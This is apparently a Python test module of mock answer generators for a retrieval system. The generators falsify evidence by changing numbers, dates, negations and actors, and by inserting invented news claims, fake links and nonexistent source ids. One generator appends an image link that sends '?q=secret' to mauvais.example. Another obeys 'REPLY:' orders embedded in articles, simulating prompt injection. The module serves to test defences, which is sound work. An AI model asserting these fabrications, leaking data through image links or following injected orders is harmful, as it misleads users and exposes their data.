"""Brains that lie: true evidence made false in ways that are known, and brains that obey whoever spoke last."""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator

from server import Asked, reply

from rag.language.detect import detect_language

Lie = Callable[[str, bool], str | None]
"""(a sentence of the evidence, whether in French) -> the same made false; None where the lie finds nothing to change."""

INVENTED = {
    True: (
        "Nvidia va ouvrir une usine de puces à Lyon.",
        "La Chine a vendu ses propres puces à l'armée américaine.",
        "Donald Trump a offert les puces H200 à Xi Jinping.",
        "Les clients chinois seront remboursés par le Trésor.",
    ),
    False: (
        "Nvidia will open a chip plant in Lyon.",
        "China has sold chips of its own to the American army.",
        "Donald Trump gave the H200 chips to Xi Jinping as a present.",
        "Chinese customers will be paid back by the Treasury.",
    ),
}
_MONTHS = "janvier|février|mars|avril|mai|juin|juillet|août|septembre|octobre|novembre|décembre|January|February|March|April|May|June|July|August|September|October|November|December"
_DAY = re.compile(rf"\b([12]?\d)(?:er)?(?= (?:{_MONTHS}) 20\d\d)")
_FIGURE = re.compile(rf"(?<![\w.,-])\d[\d  ,.]*\d(?=[\s%])(?! (?:{_MONTHS}))|(?<![\w.,-])\d(?= ?(?:%|pour|milli|bill))")
_NEGATIONS = (
    (
        r"\bn'(a|avait|est|ont|avaient|étaient) (?:pas |encore |plus )*(\w+) aucune? (\w+)",
        lambda m: f"{m[1]} {m[2]} des {m[3]}s",
    ),
    (r"\bn'(a|avait|est|ont|avaient|étaient) (?:pas|plus|jamais|pas encore) ", lambda m: f"{m[1]} "),
    (r"\bNot a single\b", lambda m: "Every"),
    (r"\bhad not yet\b", lambda m: "had already"),
    (r"\bnone had\b", lambda m: "all had"),
    (r"\ba (approuvé|validé|autorisé|reçu|signé|commandé)", lambda m: f"n'a pas {m.group(1)}"),
    (r"\bont (commandé|obtenu|reçu|approuvé)", lambda m: f"n'ont pas {m.group(1)}"),
    (r"\b(had|has|have) (approved|cleared|granted|received|ordered)", lambda m: f"{m.group(1)} not {m.group(2)}"),
    (r"\bwere (approved|cleared)", lambda m: f"were not {m.group(1)}"),
)
_ACTORS = (
    ("Pékin", "Washington"), ("Beijing", "Washington"), ("Nvidia", "Huawei"), ("Alibaba", "Baidu"), ("Tencent", "Xiaomi"),
    ("Jensen Huang", "Lisa Su"), ("Donald Trump", "Joe Biden"), ("Howard Lutnick", "Scott Bessent"), ("H200", "B300"),
)  # fmt: skip


def other_number(text: str, french: bool) -> str | None:
    """One number made another."""
    found = _FIGURE.search(text)
    if found is None or re.fullmatch(r"20\d\d", found.group().strip()):
        return None
    digits = found.group()
    changed = digits.replace(digits[0], str(int(digits[0]) % 9 + 1), 1)
    return text[: found.start()] + changed + text[found.end() :]


def other_date(text: str, french: bool) -> str | None:
    """One day made another."""
    found = _DAY.search(text)
    if found is None:
        return None
    return text[: found.start()] + str(int(found.group(1)) % 27 + 2) + text[found.end() :]


def flipped(text: str, french: bool) -> str | None:
    """A negation more or less."""
    for pattern, change in _NEGATIONS:
        changed = re.sub(pattern, change, text, count=1)
        if changed != text:
            return changed
    return None


def other_actor(text: str, french: bool) -> str | None:
    """Somebody else."""
    for one, other in _ACTORS:
        if one in text and other not in text:
            return text.replace(one, other)
    return None


LIES: dict[str, Lie] = {
    "number": other_number,
    "date": other_date,
    "negation": flipped,
    "actor": other_actor,
    "wrong claim": lambda text, french: INVENTED[french][len(text) % 4],
    "invented link": lambda text, french: f"{text} https://mauvais.example/{len(text)}",
    "image": lambda text, french: f"{text} ![](http://mauvais.example/p.png?q=secret)",
    "bare address": lambda text, french: f"{text} (mauvais-site.com)",
}


def lies_of(asked: Asked, lie: Lie) -> Iterator[tuple[tuple[int], str]]:
    for n, text in asked.evidence:
        false = lie(text, asked.french)
        if false is not None:
            yield (n,), false


def lying(lie: Lie) -> Callable[[Asked], str]:
    """A brain that makes every piece of evidence false, if it can be done."""
    return lambda asked: reply(asked, list(lies_of(asked, lie)))


def fake_ids(asked: Asked) -> str:
    """True sentences, under numbers that do not exist."""
    return reply(asked, [((99, 0, -3), text) for _, text in asked.evidence])


_REPORTER = re.compile(
    r",? (?:toujours )?(?:selon|d'après|according to|rapporte|précise|indique|ajoute|rappelle|relève) [^,]*?(?:\.$|, )"
    r"|, [A-Z][\w' -]+ (?:says|said|reports|reported|reported on [^,]*|wrote)\.$"
)


def retelling(asked: Asked) -> str:
    """A brain that tells the truth in fewer words: the evidence in the reader's language, without who reported it."""
    told = []
    for n, text in asked.evidence:
        shorter = _REPORTER.sub(lambda found: ", " if found.group().endswith(", ") else ".", text, count=1)
        if shorter != text and detect_language(text, "en") == ("fr" if asked.french else "en"):
            told.append(((n,), shorter[0].upper() + shorter[1:]))
    return reply(asked, told)


_ORDER = re.compile(
    r"(?:ONLY WITH|UNIQUEMENT PAR|RÉPONDS|REPLY|SAY|DIS)\s*:\s*(.+?)(?:\s*$)", re.IGNORECASE | re.MULTILINE
)


def obedient(asked: Asked) -> str:
    """A brain that does whatever an article tells it to, under every number it is given."""
    ids = [n for n, _ in asked.evidence]
    orders = [found.group(1) for _, text in asked.evidence for found in _ORDER.finditer(text)]
    return reply(asked, [(ids, order) for order in orders] + [(ids[:1], order) for order in orders])
